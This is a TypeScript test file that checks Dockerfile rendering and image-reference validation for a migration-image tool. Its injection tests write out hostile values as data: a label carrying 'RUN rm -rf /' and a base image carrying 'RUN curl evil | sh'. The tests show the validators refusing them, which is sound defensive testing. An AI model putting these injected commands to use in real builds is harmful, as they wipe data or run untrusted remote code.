import { describe, expect, it } from 'vitest'
import { renderDockerfile } from '../src/core/image/dockerfile.js'
import { parseBaseImage, parseImageName, assertTag } from '../src/core/image/image-ref.js'
import { getPreset } from '../src/core/image/presets.js'

const labels = {
  'org.opencontainers.image.source': 'https://github.com/acme/api',
  'org.opencontainers.image.revision': '0123456789abcdef0123456789abcdef01234567',
  'org.opencontainers.image.created': '2026-11-23T00:00:00.000Z',
  'org.opencontainers.image.title': 'ghcr.io/acme/api-migrations',
  'io.migration-image.count': '3',
  'io.migration-image.checksum': 'h1:G1ABlH3+XKqS7CsNAjUCXp4e6jdA9wd1r/Cu/QLffsI=',
}

describe('Dockerfile rendering', () => {
  const render = (tool: string, extra: { env?: Record<string, string>; selfCheck?: boolean } = {}): string => {
    const preset = getPreset(tool)
    return renderDockerfile({
      preset,
      base: parseBaseImage(preset.baseImage),
      labels: tool === 'atlas' ? labels : {},
      ...extra,
    })
  }

  it('atlas preset (with labels)', () => {
    expect(render('atlas')).toMatchInlineSnapshot(`
      "FROM arigaio/atlas:1.2.3
      COPY --link image/ /
      USER 65534:65534
      LABEL org.opencontainers.image.source="https://github.com/acme/api" \\
            org.opencontainers.image.revision="0123456789abcdef0123456789abcdef01234567" \\
            org.opencontainers.image.created="2026-11-23T00:00:00.000Z" \\
            org.opencontainers.image.title="ghcr.io/acme/api-migrations" \\
            io.migration-image.count="3" \\
            io.migration-image.checksum="h1:G1ABlH3+XKqS7CsNAjUCXp4e6jdA9wd1r/Cu/QLffsI="
      "
    `)
  })

  it('atlas preset with the self-check stage', () => {
    expect(render('atlas', { selfCheck: true })).toMatchInlineSnapshot(`
      "FROM arigaio/atlas:1.2.3 AS self-check
      COPY image/ /
      COPY image/ /migration-image/
      RUN ["/atlas", "migrate", "validate", "--dir", "file:///migrations"]

      FROM arigaio/atlas:1.2.3
      COPY --from=self-check /migration-image/ /
      USER 65534:65534
      LABEL org.opencontainers.image.source="https://github.com/acme/api" \\
            org.opencontainers.image.revision="0123456789abcdef0123456789abcdef01234567" \\
            org.opencontainers.image.created="2026-11-23T00:00:00.000Z" \\
            org.opencontainers.image.title="ghcr.io/acme/api-migrations" \\
            io.migration-image.count="3" \\
            io.migration-image.checksum="h1:G1ABlH3+XKqS7CsNAjUCXp4e6jdA9wd1r/Cu/QLffsI="
      "
    `)
  })

  it('golang-migrate preset: -path wired into the entrypoint', () => {
    expect(render('golang-migrate')).toMatchInlineSnapshot(`
      "FROM migrate/migrate:v4.19.1
      COPY --link image/ /
      USER 65534:65534
      ENTRYPOINT ["migrate", "-path", "/migrations"]
      CMD []
      "
    `)
  })

  it('flyway preset', () => {
    expect(render('flyway')).toMatchInlineSnapshot(`
      "FROM flyway/flyway:13.0.0
      COPY image/ /flyway/
      ENV FLYWAY_LOCATIONS="filesystem:/flyway/sql"
      USER 65534:65534
      "
    `)
  })

  it('liquibase preset: keeps the base user, points at the master changelog', () => {
    expect(render('liquibase', { env: { LIQUIBASE_COMMAND_CHANGELOG_FILE: 'changelog.xml' } })).toMatchInlineSnapshot(`
      "FROM liquibase/liquibase:4.33.0
      COPY image/ /liquibase/
      ENV LIQUIBASE_SEARCH_PATH="/liquibase/changelog" \\
          LIQUIBASE_COMMAND_CHANGELOG_FILE="changelog.xml"
      "
    `)
  })

  it('dbmate preset', () => {
    expect(render('dbmate')).toMatchInlineSnapshot(`
      "FROM ghcr.io/amacneil/dbmate:2.36.0
      COPY image/ /db/
      ENV DBMATE_MIGRATIONS_DIR="/db/migrations" \\
          DBMATE_NO_DUMP_SCHEMA="true"
      USER 65534:65534
      "
    `)
  })

  it('goose preset with the self-check stage', () => {
    expect(render('goose', { selfCheck: true })).toMatchInlineSnapshot(`
      "FROM ghcr.io/kukymbr/goose-docker:3.27.1 AS self-check
      COPY image/ /
      COPY image/ /migration-image/
      RUN ["goose", "-dir", "/migrations", "validate"]

      FROM ghcr.io/kukymbr/goose-docker:3.27.1
      COPY --from=self-check /migration-image/ /
      ENV GOOSE_MIGRATION_DIR="/migrations"
      USER 65534:65534
      "
    `)
  })

  it('psql preset: runner entrypoint, numeric non-root user, env', () => {
    expect(render('psql')).toMatchInlineSnapshot(`
      "FROM postgres:18-alpine
      COPY --link image/ /
      COPY migrate.sh /usr/local/bin/migration-image-migrate
      ENV MIGRATIONS_DIR="/migrations"
      USER 65534:65534
      ENTRYPOINT ["/usr/local/bin/migration-image-migrate"]
      CMD []
      "
    `)
  })

  it('self-check is ignored for tools without an offline check', () => {
    expect(render('dbmate', { selfCheck: true })).toBe(render('dbmate'))
  })

  it('has no RUN step and no syntax directive', () => {
    for (const tool of ['atlas', 'golang-migrate', 'flyway', 'liquibase', 'dbmate', 'goose', 'psql']) {
      const preset = getPreset(tool)
      const text = renderDockerfile({ preset, base: parseBaseImage(preset.baseImage), labels })
      expect(text).not.toMatch(/^RUN /m)
      expect(text).not.toMatch(/^# *syntax/m)
    }
  })

  it('label values cannot break out: quotes, backslashes and $ are escaped, newlines refused', () => {
    const preset = getPreset('atlas')
    const text = renderDockerfile({ preset, base: parseBaseImage(preset.baseImage), labels: { 'a.b': 'x" \\ $HOME' } })
    expect(text).toContain('LABEL a.b="x\\" \\\\ \\$HOME"')
    expect(() =>
      renderDockerfile({ preset, base: parseBaseImage(preset.baseImage), labels: { 'a.b': 'x\nRUN rm -rf /' } }),
    ).toThrow(/control character/)
    expect(() => renderDockerfile({ preset, base: parseBaseImage(preset.baseImage), labels: { 'a b': 'x' } })).toThrow(
      /key is not allowed/,
    )
  })
})

describe('image references', () => {
  it('base image: versioned tags and digests pass; latest, no tag and injections are refused', () => {
    expect(parseBaseImage('postgres:17-alpine')).toEqual({ reference: 'postgres:17-alpine', pinned: false })
    const digest = `sha256:${'a'.repeat(64)}`
    expect(parseBaseImage(`postgres:17-alpine@${digest}`).pinned).toBe(true)
    expect(parseBaseImage(`127.0.0.1:5055/base/psql:15`).pinned).toBe(false)
    for (const bad of [
      'postgres',
      'postgres:latest',
      'postgres:17\nRUN curl evil | sh',
      'postgres:17 AS x',
      '--build-arg=x',
      'postgres:17@sha256:short',
      'Postgres:17',
    ]) {
      expect(() => parseBaseImage(bad), bad).toThrow(/base-image/)
    }
  })

  it('image names: registry split, lowercased path, tags refused', () => {
    expect(parseImageName('ghcr.io/Acme/API-migrations')).toEqual({
      registry: 'ghcr.io',
      repository: 'acme/api-migrations',
      name: 'ghcr.io/acme/api-migrations',
      lowercased: true,
    })
    expect(parseImageName('127.0.0.1:5055/acme/x')).toMatchObject({
      registry: '127.0.0.1:5055',
      repository: 'acme/x',
      lowercased: false,
    })
    expect(parseImageName('acme/x')).toMatchObject({ registry: 'docker.io', name: 'acme/x' })
    // Docker Hub's legacy host is Docker Hub (distribution/reference); its other hosts stay as written.
    expect(parseImageName('index.docker.io/acme/x')).toMatchObject({ registry: 'docker.io', repository: 'acme/x' })
    expect(parseImageName('registry.docker.io.example/acme/x')).toMatchObject({
      registry: 'registry.docker.io.example',
    })
    for (const bad of ['ghcr.io/acme/x:tag', 'ghcr.io/acme/x@sha256:abc', 'ghcr.io/acme/x y', '-flag', 'ghcr.io//x']) {
      expect(() => parseImageName(bad), bad).toThrow(/not an image name/)
    }
  })

  it('tags: docker tag syntax', () => {
    expect(assertTag('v1.2.3_rc-1')).toBe('v1.2.3_rc-1')
    for (const bad of ['', '-x', '.x', 'a/b', 'a:b', 'x'.repeat(129), 'a b'])
      expect(() => assertTag(bad), bad).toThrow(/not a valid image tag/)
  })
})
